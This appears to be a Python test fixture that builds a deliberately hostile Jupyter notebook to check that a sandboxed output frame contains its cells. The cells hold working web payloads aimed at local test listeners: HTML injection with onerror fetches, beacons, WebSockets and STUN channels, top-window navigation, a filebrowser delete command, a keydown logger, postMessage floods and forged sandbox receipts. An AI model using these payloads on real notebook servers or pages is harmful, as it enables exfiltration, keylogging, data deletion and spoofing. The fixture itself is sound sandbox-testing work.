"""The hostile gallery: a notebook whose outputs try to get out by every library and door of the friendly one.

Each cell reaches only for listeners of the test: HTTP is the address U, and TCP, UDP the others.
"""

from tests.browser.frames.listeners import Listeners
from tests.browser.lab_page import code_cell, notebook_of

#: What each cell begins with.
ADDRESSES = "U, TCP, UDP = {url!r}, {tcp!r}, {udp!r}\nfrom IPython.display import *\n"

#: Markup that tries everything at once, for the places where a library passes markup on.
MARKUP = (
    "<img src={U}/markup><script src={U}/script></script><link rel=stylesheet href={U}/style>"
    "<link rel=preconnect href={TCP}><img src=x onerror=\\\"fetch('{U}/handler', {{mode: 'no-cors'}})\\\">"
    "<iframe src={U}/iframe></iframe><svg><image href={U}/svg /></svg><a ping={U}/ping href={U}/link id=go>x</a>"
    "<form action={U}/form><button>x</button></form><style>@import url({U}/import);</style>"
)
TRY_ALL = f'M = f"{MARKUP}"\n'

CELLS = {
    "markup": "HTML(M)",
    "markup of a frame": "HTML(M + '<script>document.getElementById(\"go\").click(); document.forms[0].submit()</script>')",
    "scripts": """HTML(f'''<script>
        for (const run of [
          () => fetch('{U}/fetch', {{mode: 'no-cors'}}), () => navigator.sendBeacon('{U}/beacon'),
          () => new WebSocket('{U}/ws'.replace('http', 'ws')), () => import('{U}/import'), () => {{ location = '{U}/location'; }},
          () => {{ top.location = '{U}/top'; }}, () => window.open('{U}/open'), () => top.document.title = 'owned',
          () => new RTCPeerConnection({{iceServers: [{{urls: 'stun:{UDP}'}}]}}).createDataChannel('x'),
          () => parent.parent.owned(), () => top.jupyterapp.commands.execute('filebrowser:delete'),
        ]) try {{ run(); }} catch {{}}
      </script>''')""",
    "plotly": """import plotly.graph_objects as go
go.Figure(go.Bar(y=[1], text=M), layout={"title": M, "images": [{"source": f"{U}/plotly", "xref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]})""",
    "altair": """import altair as alt
alt.Chart({"url": f"{U}/altair.json", "format": {"type": "json"}}).mark_image().encode(url="u:N")""",
    "table styles": """import pandas as pd
pd.DataFrame({"a": [M]}).style.set_properties(**{"background": f"url({U}/styler)"})""",
    "itables": "from itables import show\nshow(pd.DataFrame({'a': [M]}), allow_html=True)",
    "a map": """import folium
folium.Map([0, 0], tiles=f"{U}/tiles/{{z}}/{{x}}/{{y}}.png", attr=M).add_child(folium.Marker([0, 0], popup=M))""",
    "pictures and films": "display(Image(url=f'{U}/image'), Video(f'{U}/video'), Audio(url=f'{U}/audio'), IFrame(f'{U}/frame', 9, 9))",
    "other forms": """for mime, value in {
    "text/markdown": f"![x]({U}/markdown) <img src={U}/markdown-html>", "text/latex": f"$\\\\href{{{U}/latex}}{{x}}$",
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{U}/svg-form'/><script>fetch('{U}/svg-script')</script></svg>",
    "application/javascript": f"fetch('{U}/javascript')", "application/vnd.jupyter.widget-view+json": {"model_id": "0" * 32},
    "application/vnd.bokehjs_exec.v0+json": "", "application/geo+json": {"type": "FeatureCollection", "features": []},
}.items():
    display({mime: value, "text/plain": "x"}, raw=True)""",
    "an anywidget": """import anywidget, traitlets
class Widget(anywidget.AnyWidget):
    _esm = f"import '{U}/esm-import'; fetch('{U}/esm'); export default {{ render({{ el }}) {{ el.innerHTML = `<img src={U}/esm-img>`; }} }}"
    _css = f"@import url({U}/css); div {{ background: url({U}/css-url) }}"
Widget()""",
    "widgets with markup": "import ipywidgets\nipywidgets.VBox([ipywidgets.HTML(M), ipywidgets.Image(value=f'{U}/image-widget'.encode(), format='url')])",
    "comms of others": """import comm
for target in ("sandbox-kernel.frames", "jupyter.widget.control", "jupyter.widget"):
    made = comm.create_comm(target_name=target, data={"state": {"_model_module": f"{U}/module", "_model_name": "X"}})
    made.send({"type": "comms", "method": "update", "state": {"value": M}})""",
    "a forged frame": """display({"application/vnd.sandbox-kernel.frame+json": {"html": M, "libraries": ["0" * 64], "height": 1e9,
    "widget": {"model_id": "0", "gate": "1"}}, "text/plain": "x"}, raw=True)
display({"application/vnd.sandbox-kernel.library+json": {"sha256": "0" * 64, "title": "plotly", "gzip": "H4sI"}}, raw=True)""",
    "a forged receipt": """display({"application/vnd.sandbox-kernel.run+json": {"status": "ok", "language": "forged"}, "text/html": M}, raw=True)
HTML("<div class='jp-SandboxReceipt' style='position:fixed;inset:0;z-index:99999'>forged receipt</div><style>*{position:fixed}</style>")""",
    "messages to the page": """HTML('''<script>
      for (let n = 0; n < 3000; n++) {
        parent.postMessage({type: 'height', height: 1e9}, '*'); top.postMessage({type: 'height', height: 1e9, sandboxFrame: 1}, '*');
        top.postMessage({type: 'comm', sandboxFrame: 1, msg: {msg_type: 'comm_msg', comm_id: '0', data: {}}}, '*');
      }</script>''')""",
    "the keyboard": """HTML('''<input id=i><script>
      document.addEventListener('keydown', (e) => fetch('%s/key', {mode: 'no-cors'}));
      setInterval(() => document.getElementById('i').focus(), 50)</script>''' % U)""",
}


def hostile_notebook(listeners: Listeners) -> dict[str, object]:
    """The notebook, for these listeners."""
    tcp, udp = listeners.tcp.getsockname()[1], listeners.udp.getsockname()[1]
    addresses = ADDRESSES.format(url=f"{listeners.url}/x", tcp=f"http://127.0.0.1:{tcp}", udp=f"127.0.0.1:{udp}")
    begin = code_cell("%sandbox --timeout 2m --memory 2G")
    cells = [code_cell(f"{addresses}{TRY_ALL}{source}") for source in CELLS.values()]
    return notebook_of(begin, *cells, code_cell("typed = 1"), kernel="sandbox")
